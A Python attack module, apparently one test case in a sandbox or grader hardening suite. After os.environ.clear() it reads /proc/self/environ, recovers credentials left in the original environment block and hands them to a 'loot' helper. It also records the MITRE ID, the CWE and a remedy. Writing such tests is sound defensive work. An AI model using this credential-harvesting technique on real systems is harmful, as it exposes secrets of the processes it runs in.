# SPDX-License-Identifier: MIT
"""Goal:  the worker's credentials, although the environment was cleaned inside the process.
Means: /proc/self/environ shows the block that execve(2) put on the stack. unsetenv(3), and with
       it os.environ.clear(), only forgets pointers into that block: the bytes stay.
"""

import os

from attack import DONE, attempting, credential, denied, loot


def run(brief):
    os.environ.clear()  # what a cleanup in the worker's own process does
    attempting()
    try:
        with open("/proc/self/environ", "rb") as file:
            block = file.read()
    except OSError as why:
        return denied("/proc/self/environ", why)
    found = credential(block)
    if found:
        loot(found)
        return DONE
    return denied("/proc/self/environ", "no credential in it")


ATTACK = {
    "effect": "the worker's credentials leave in the student's output",
    "means": "/proc/self/environ after os.environ.clear(): the initial block is unchanged",
    "oracle": "secret:environ",
    "quick": True,
    "id": "ENV-02",
    "attack_id": "T1552.001, CWE-526",
    "remedy": "execve(2) with a built environment; clearing it in the same process is too late",
    "refs": ["proc(5)"],
    "run": run,
}
